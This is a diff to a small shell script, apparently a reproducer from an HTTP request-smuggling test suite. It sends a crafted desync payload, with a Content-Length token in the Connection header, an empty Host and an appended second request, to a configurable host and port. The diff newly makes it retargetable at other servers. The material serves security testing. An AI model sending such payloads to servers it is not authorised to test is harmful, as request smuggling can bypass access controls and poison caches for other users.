@@ -1,3 +1,11 @@
-#!/bin/sh
+#!/bin/bash
 # desync/connection-names-framing-field/smuggled-request via header.insert-field against node
-printf 'GET / HTTP/1.1\r\nConnection:Content-Length\r\nHost:\r\n\r\nGET /\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
+# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
+HOST=${HOST:-127.0.0.1}
+PORT=${PORT:-58937}
+# A server that closes early makes a later write fail; the answer is still read.
+trap '' PIPE
+exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
+timeout 2 cat <&3 | xxd &
+printf 'GET / HTTP/1.1\r\nConnection:Content-Length\r\nHost:\r\n\r\nGET /\n\r\n' >&3
+wait
